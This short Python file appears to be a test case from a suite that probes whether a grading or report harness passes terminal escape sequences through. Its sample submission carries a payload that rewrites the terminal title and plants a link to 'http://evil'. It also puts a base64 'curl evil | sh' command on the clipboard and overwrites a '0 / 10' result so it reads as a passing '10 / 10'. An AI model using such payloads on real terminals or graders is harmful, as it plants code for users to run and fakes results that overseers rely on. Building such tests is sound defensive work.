"""Escape sequences for terminals: colors, cursor, title, links, clipboard, in 7 and 8 bits; bells, backspaces, returns.

Success: a control character reaches the terminal or a file.
"""

from attacks.injection.strict import report_is_broken as succeeded  # noqa: F401

SUBMISSION = r"""
ALL = (
    "\x1b[2J\x1b[1;1H\x1b[31m\x1b]0;owned\x07\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\"
    "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x9b31m\x9d0;title\x9c\x90q\x9c\x1bP$q\x1b\\\x1b[6n\x1bc\x05\x0e\x7f\a"
)


def double(x):
    raise ValueError(ALL + "0 / 10\r  \u2713 double 10 / 10\b\b\b\b" + "\x08" * 40)


def total(x, rng):
    raise type("Error\x1b[8m", (Exception,), {})(ALL)


def label(x, centers):
    return ALL
"""
